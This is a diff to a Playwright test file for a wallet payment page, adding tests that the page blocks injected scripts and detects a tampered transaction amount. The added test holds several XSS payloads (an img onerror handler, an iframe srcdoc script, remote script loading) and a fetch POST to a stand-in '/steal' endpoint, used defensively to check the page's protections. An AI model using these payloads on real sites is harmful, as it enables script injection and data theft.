@@ -24,7 +24,7 @@ let world: World;
 let elsewhere: Server;
 let elsewhereUrl: string;
 beforeAll(async () => {
-  world = await openWorld({ MCP_OPERATION_DEFAULT_TTL_SECONDS: '3600' });
+  world = await openWorld({ MCP_OPERATION_DEFAULT_TTL_SECONDS: '3600', HANDOVER_QUERY_SECRETS: '1' });
   elsewhere = createServer((_, response) => {
     response.writeHead(200, { 'content-type': 'text/html' });
     response.end('<!doctype html><title>elsewhere</title><body></body>');
@@ -123,6 +123,64 @@ it('text stays text on the other two pages', { timeout: 60_000 }, async () => {
   const known = [world.server.http, world.xgr.url, 'data:'];
   expect(requests.filter((request) => !known.some((start) => request.url.startsWith(start)))).toEqual([]);
   await context.close();
+});
+
+it('script that got into a page runs in no way, and none is loaded from elsewhere', {
+  timeout: 60_000,
+}, async () => {
+  const created = await payment();
+  const { page, requests, context } = await world.person(1);
+  await page.goto(linkOf(created));
+  await page.getByText('What will happen').waitFor();
+  const attempts: Readonly<Record<string, string>> = {
+    markup: `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.__hit=1">')`,
+    'inner markup': `document.querySelector('main').innerHTML = '<p>Send nothing</p>'`,
+    'inline script': `(() => { const s = document.createElement('script'); s.append('window.__hit=1'); document.body.append(s); })()`,
+    'script from elsewhere': `(() => { const s = document.createElement('script'); s.src = '${elsewhereUrl}/x.js'; document.body.append(s); })()`,
+    handler: `(() => { const d = document.createElement('div'); d.setAttribute('onclick', 'window.__hit=1'); document.body.append(d); d.click(); })()`,
+    frame: `(() => { const f = document.createElement('iframe'); f.srcdoc = '<script>parent.__hit=1</scr' + 'ipt>'; document.body.append(f); })()`,
+    'call to elsewhere': `fetch('${elsewhereUrl}/steal', { method: 'POST', body: 'x' }).catch(() => undefined)`,
+    form: `(() => { const f = document.createElement('form'); f.action = '${elsewhereUrl}/form'; document.body.append(f); f.submit(); })()`,
+  };
+  for (const attempt of Object.values(attempts))
+    await page.evaluate(`(() => { try { ${attempt} } catch { return 'refused' } })()`);
+  await page.waitForTimeout(500);
+  expect(await page.evaluate('window.__hit')).toBeUndefined();
+  expect(await page.locator('main').textContent()).toContain('What will happen');
+  expect(requests.filter(({ url }) => url.startsWith(elsewhereUrl) && !url.endsWith('/'))).toEqual([]);
+  await context.close();
+});
+
+it('the wallet is asked for what is shown, and a page that was given something else says so', {
+  timeout: 60_000,
+}, async () => {
+  const created = await payment();
+  const honest = await world.person(1);
+  await honest.page.goto(linkOf(created));
+  await honest.page.getByText('0.000000000000000007 ETH').first().waitFor();
+  expect(await honest.page.locator('.hash').first().textContent()).toBe(created.digest);
+  await honest.page.getByText('it matches').waitFor();
+  await connect(honest.page);
+  await button(honest.page, 'Sign in the wallet').click();
+  await stepIs(honest.page, 1, 'confirmed', 40_000);
+  const asked = honest.wallet.prompts.filter(({ method }) => method === 'eth_sendTransaction');
+  const transactions = asked.map(({ params }) => params[0] as { to: string; value: string });
+  expect(transactions.map(({ to, value }) => [to.toLowerCase(), Number(value)])).toEqual([
+    [world.anvil.account(6).address.toLowerCase(), 7],
+  ]);
+  await honest.context.close();
+
+  const other = await payment();
+  const deceived = await world.person(1);
+  await deceived.page.route('**/api/operations/**', async (route) => {
+    const answer = await route.fetch();
+    const record = (await answer.json()) as { steps: { txRequest: { value: string } }[] };
+    for (const { txRequest } of record.steps) txRequest.value = '8';
+    await route.fulfill({ response: answer, json: record });
+  });
+  await deceived.page.goto(linkOf(other));
+  await deceived.page.getByText('What is shown here has another digest').waitFor();
+  await deceived.context.close();
 });
 
 it('a megabyte of text does not hide what is signed', { timeout: 60_000 }, async () => {
